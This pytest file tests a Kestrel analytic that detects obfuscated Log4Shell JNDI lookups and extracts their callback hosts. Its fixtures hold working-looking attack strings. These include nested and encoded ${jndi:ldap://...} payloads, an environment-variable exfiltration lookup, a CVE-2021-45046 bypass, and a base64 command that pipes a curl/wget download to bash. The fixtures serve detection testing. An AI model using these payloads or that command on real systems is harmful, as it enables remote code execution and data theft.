"""python://log4shell: a table of obfuscated lookups seen in the wild with their decodings
written out by hand, and the shared log4shell bundle with its payloads decoded here by a
decoder of the test's own (innermost lookup first, by regular expressions)."""

import base64
import json
import re
from urllib.parse import quote

import pytest

from kestrel.analytics.log4shell import detect
from kestrel.errors import AnalyticsError

B64_CMD = ("KGN1cmwgLXMgMTk1LjU0LjE2MC4xNDk6NTg3NC81Mi41NC4yMzcuNjQ6ODB8fHdnZXQgLXEgLU8tIDE5"
           "NS41NC4xNjAuMTQ5OjU4NzQvNTIuNTQuMjM3LjY0OjgwKXxiYXNo")
PLAIN = "${jndi:ldap://evil.example/a}"

# (text, decoded lookups, callback, callback host, command)
OBFUSCATED = [
    (PLAIN, [PLAIN], "ldap://evil.example:389", "evil.example", None),
    ("${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.example:1389/a}",
     ["${jndi:ldap://x.example:1389/a}"], "ldap://x.example:1389", "x.example", None),
    ("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h.example:1099/o}",
     ["${jndi:rmi://h.example:1099/o}"], "rmi://h.example:1099", "h.example", None),
    ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//c.example/a}",
     ["${jndi:ldap://c.example/a}"], "ldap://c.example:389", "c.example", None),
    ("${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-d}ns${env:ENV_NAME:-:}//d.example}",
     ["${jndi:dns://d.example}"], "dns://d.example:53", "d.example", None),
    ("${${k8s:k5:-J}${k8s:k5:-ND}${k8s:k5:-I}:ldaps://s.example/a}",
     ["${jndi:ldaps://s.example/a}"], "ldaps://s.example:636", "s.example", None),
    ("${jnd${upper:ı}:ldap://t.example/a}",  # dotless i upper-cases to I
     ["${jndi:ldap://t.example/a}"], "ldap://t.example:389", "t.example", None),
    ("${${date:'j'}${date:'n'}${date:'d'}i:ldap://u.example/a}",
     ["${jndi:ldap://u.example/a}"], "ldap://u.example:389", "u.example", None),
    ("${${lower:${lower:j}}${lower:${upper:n}}di:ldap://v.example/a}",  # nested
     ["${jndi:ldap://v.example/a}"], "ldap://v.example:389", "v.example", None),
    ("${${::-${::-j}}ndi:ldap://w.example/a}",
     ["${jndi:ldap://w.example/a}"], "ldap://w.example:389", "w.example", None),
    ("${JnDi:LdAp://Mixed.Example:1389/a}",
     ["${jndi:LdAp://Mixed.Example:1389/a}"], "ldap://mixed.example:1389", "mixed.example", None),
    ("${jndi:ldap://${env:USER}.${sys:java.version}.leak.example/a}",  # exfiltration
     ["${jndi:ldap://${env:USER}.${sys:java.version}.leak.example/a}"],
     "ldap://${env:USER}.${sys:java.version}.leak.example:389",
     "${env:USER}.${sys:java.version}.leak.example", None),
    ("${jndi:ldap://127.0.0.1#bypass.example:1389/a}",  # CVE-2021-45046
     ["${jndi:ldap://127.0.0.1#bypass.example:1389/a}"], "ldap://127.0.0.1#bypass.example:1389",
     "127.0.0.1#bypass.example", None),
    ("${jndi:ldap://[2001:db8::5]:1389/a}",
     ["${jndi:ldap://[2001:db8::5]:1389/a}"], "ldap://[2001:db8::5]:1389", "2001:db8::5", None),
    ("%24%7Bjndi%3Aldap%3A%2F%2Fe.example%3A1389%2Fa%7D",  # URL-encoded
     ["${jndi:ldap://e.example:1389/a}"], "ldap://e.example:1389", "e.example", None),
    ("GET /?q=%2524%257Bjndi%253Armi%253A%252F%252Ff.example%252Fa%257D",  # twice
     ["${jndi:rmi://f.example/a}"], "rmi://f.example:1099", "f.example", None),
    ("X-Token: JHtqbmRpOmxkYXA6Ly9iNjQuZXhhbXBsZS9hfQ==",  # base64 of ${jndi:ldap://b64...}
     ["${jndi:ldap://b64.example/a}"], "ldap://b64.example:389", "b64.example", None),
    ("${jndi:ldap://195.54.160.149:12344/Basic/Command/Base64/" + B64_CMD + "}",
     ["${jndi:ldap://195.54.160.149:12344/Basic/Command/Base64/" + B64_CMD + "}"],
     "ldap://195.54.160.149:12344", "195.54.160.149",
     "(curl -s 195.54.160.149:5874/52.54.237.64:80||wget -q -O- "
     "195.54.160.149:5874/52.54.237.64:80)|bash"),
    ("a ${jndi:ldap://one.example/a} b ${jndi:rmi://two.example:2000/b} c " + PLAIN,
     ["${jndi:ldap://one.example/a}", "${jndi:rmi://two.example:2000/b}", PLAIN],
     "ldap://one.example:389, rmi://two.example:2000, ldap://evil.example:389",
     "one.example, two.example, evil.example", None),
    ("${jndi:java:comp/env/jdbc}", ["${jndi:java:comp/env/jdbc}"], None, None, None),
    # not lookups a vulnerable Log4j performs
    ("${lower:JNDI}:ldap://x.example/a", [], None, None, None),
    ("${env:HOME} and ${sys:user.name}", [], None, None, None),
    ("jndi:ldap://x.example/a", [], None, None, None),
    ("${jndi:ldap://x.example/a", [], None, None, None),  # never closed
    ("${lower:${::-$}{jndi:ldap://x.example/a}}", [], None, None, None),  # a } ends lower:
    ("", [], None, None, None),
    ("${" * 5000 + PLAIN + "}" * 5000, [], None, None, None),  # 200 levels deep at most
]


@pytest.mark.parametrize("text, payloads, callback, host, command", OBFUSCATED,
                         ids=[str(i) for i in range(len(OBFUSCATED))])
def test_obfuscations(text, payloads, callback, host, command):
    found = detect({"value": text})
    assert found["x_log4shell"] is bool(payloads)
    assert found["x_log4shell_payload"] == ("\n".join(payloads) or None)
    assert found["x_log4shell_callback"] == callback
    assert found["x_log4shell_callback_host"] == host
    assert found["x_log4shell_command"] == command


def test_encodings_of_attribute_values():
    packet = b"\x00\x8f\xff\x10GET / HTTP/1.1\r\nUser-Agent: " + PLAIN.encode() + b"\r\n"
    payload_bin = base64.b64encode(packet).decode()
    assert detect({"payload_bin": payload_bin})["x_log4shell_payload"] == PLAIN
    # base64 elsewhere is read only when it decodes to text
    assert detect({"other": payload_bin})["x_log4shell"] is False
    text = base64.b64encode(b"GET / HTTP/1.1\r\nUser-Agent: " + PLAIN.encode()).decode()
    assert detect({"other": text})["x_log4shell_payload"] == PLAIN
    extensions = json.dumps({"http-request-ext": {"request_header": {"User-Agent": PLAIN}}})
    assert detect({"extensions": extensions})["x_log4shell_payload"] == PLAIN
    assert detect({"q": quote(quote(PLAIN, safe=""), safe="")})["x_log4shell_payload"] == PLAIN


# ------------------------------------------------------------ through APPLY


def test_apply_writes_back_and_filters(session):
    texts = [t for t, *_ in OBFUSCATED if t]
    session.execute(f"urls = NEW url {json.dumps(texts)}")
    table, done = session.execute("APPLY python://log4shell ON urls")
    assert done.lines == ["urls: x_log4shell, x_log4shell_payload, x_log4shell_callback, "
                          "x_log4shell_callback_host, x_log4shell_command written to "
                          f"{len(texts)} entities"]
    hits = session.execute("hits = GET url FROM urls WHERE x_log4shell = true")[-1]
    assert hits.entities == sum(bool(p) for t, p, *_ in OBFUSCATED if t)
    (rows,) = session.execute("DISP hits ATTR value, x_log4shell_callback_host")
    expected = {t: h for t, p, _, h, _ in OBFUSCATED if p}
    assert {v: (h if isinstance(h, str) else None) for v, h in rows.dataframe.values} == expected
    assert table.title == f"log4shell: JNDI lookups in {hits.entities} of {len(texts)} entities"


def test_attrs_chooses_what_is_read(session):
    session.execute(f"procs = NEW [{{\"type\": \"process\", \"name\": \"java\", \"pid\": 1, "
                    f"\"command_line\": \"java -Dx={PLAIN}\"}}]")
    session.execute("APPLY python://log4shell ON procs WITH attrs=[name]")
    (rows,) = session.execute("DISP procs ATTR x_log4shell")
    assert rows.dataframe.values.tolist() == [[False]]
    session.execute("APPLY python://log4shell ON procs WITH attrs=command_line")
    (rows,) = session.execute("DISP procs ATTR x_log4shell, x_log4shell_callback")
    assert rows.dataframe.values.tolist() == [[True, "ldap://evil.example:389"]]
    with pytest.raises(AnalyticsError) as err:
        session.execute("APPLY python://log4shell ON procs WITH attrs=[cmdline]")
    assert err.value.message.startswith('python://log4shell: procs has no attribute "cmdline" '
                                        "(attributes: command_line, name, pid, x_log4shell")


# ------------------------------------------------------------ the shared bundle

INNERMOST = re.compile(r"\$\{([^${}]*)\}")


def decode(text):
    """JNDI names in `text`, by this test's own rules: replace the innermost ${...} again
    and again (lower:, upper:, a :- default), JNDI lookups set aside as they resolve."""
    kept = []

    def resolve(match):
        name = match.group(1)
        head, _, tail = name.partition(":")
        if head.lower() == "jndi":
            kept.append(tail)
            return f"\x00{len(kept) - 1}\x00"
        if head.lower() in ("lower", "upper"):
            return getattr(tail, head.lower())()
        if ":-" in name:
            return name.split(":-", 1)[1]
        return f"\x01{name}\x02"  # unknown: out of the way

    while True:
        replaced = INNERMOST.sub(resolve, text)
        if replaced == text:
            break
        text = replaced
    return [kept[int(i)] for i in re.findall(r"\x00(\d+)\x00", text)]


def test_shared_bundle(session, shared_data):
    bundle = shared_data / "log4shell_bundle.json"
    objects = json.loads(bundle.read_text())["objects"]
    observed = [o for o in objects if o["type"] == "observed-data"]
    expected = {}
    for o in observed:
        for sco in o["objects"].values():
            if sco["type"] == "artifact":
                names = list(dict.fromkeys(decode(base64.b64decode(sco["payload_bin"]).decode())))
                expected[sco["payload_bin"]] = names
    assert all(expected.values())  # every record of this bundle carries an attempt

    session.execute(f"events = GET x-oca-event FROM '{bundle}' WHERE action LIKE '%'")
    session.execute("payloads = FIND artifact LINKED events")
    session.execute("APPLY python://log4shell ON payloads")
    (rows,) = session.execute("DISP payloads ATTR payload_bin, x_log4shell, x_log4shell_payload, "
                              "x_log4shell_callback, x_log4shell_callback_host")
    ports = {"ldap": 389}
    for payload_bin, flag, payload, callback, host in rows.dataframe.values.tolist():
        names = expected.pop(payload_bin)
        assert flag == True  # noqa: E712 (a store may keep booleans as 1)
        assert payload == "\n".join("${jndi:" + n + "}" for n in names)
        urls = [re.match(r"(\w+)://([^/:]+)(?::(\d+))?", n).groups() for n in names]
        assert callback == ", ".join(f"{p}://{h.lower()}:{port or ports[p]}"
                                     for p, h, port in urls)
        assert host == ", ".join(h.lower() for _, h, _ in urls)
    assert expected == {}  # every artifact was shown


def test_found_attempts_filter_on_both_stores(store_session):
    session, reopen = store_session
    texts = ["GET /?x=" + PLAIN, "GET /index.html", "${${::-j}ndi:rmi://r.example/a}"]
    session.execute(f"urls = NEW url {json.dumps(texts)}")
    session.execute("APPLY python://log4shell ON urls")
    session.execute("hits = GET url FROM urls WHERE x_log4shell = true")
    session.execute("misses = GET url FROM urls WHERE x_log4shell = false")
    session.close()
    with reopen() as again:
        (hits,) = again.execute("DISP hits ATTR value, x_log4shell_callback SORT BY value")
        assert hits.dataframe.values.tolist() == [
            ["${${::-j}ndi:rmi://r.example/a}", "rmi://r.example:1099"],
            ["GET /?x=" + PLAIN, "ldap://evil.example:389"]]
        (misses,) = again.execute("DISP misses ATTR value")
        assert misses.dataframe.values.tolist() == [["GET /index.html"]]
